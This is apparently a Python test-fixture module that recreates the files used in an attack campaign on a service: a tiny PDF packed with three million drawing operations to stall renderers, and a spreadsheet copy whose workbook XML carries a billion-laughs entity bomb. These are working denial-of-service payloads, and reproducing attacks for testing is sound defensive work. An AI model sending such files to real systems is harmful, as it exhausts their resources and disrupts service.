"""Files the campaign against the service used: made here, small, each costly in its own way."""

from __future__ import annotations

import zipfile
import zlib
from pathlib import Path


def heavy_pdf() -> bytes:
    """A 131 KB PDF whose one page holds three million drawing operations (over 30 s for a renderer)."""
    stream = zlib.compress(b"0 0 m 100 100 l S\n" * 3_000_000, 9)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
               b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream"]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _laugh(n: int) -> str:
    inner = f"&lol{n - 1};" if n > 2 else "&lol;"
    return f'<!ENTITY lol{n} "{inner * 10}">'


LAUGHS = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(_laugh(n) for n in range(2, 10)) + "]>"


def billion_laughs(ledger: Path, out: Path) -> Path:
    """A copy of a real ledger whose workbook part names its first sheet with a billion-laughs entity."""
    with zipfile.ZipFile(ledger) as source, zipfile.ZipFile(out, "w") as copy:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/workbook.xml":
                text = data.decode("utf-8").split("?>", 1)[-1]
                data = (LAUGHS + text.replace('name="辍学学生台账"', 'name="&lol9;"', 1)).encode("utf-8")
            copy.writestr(name, data)
    return out
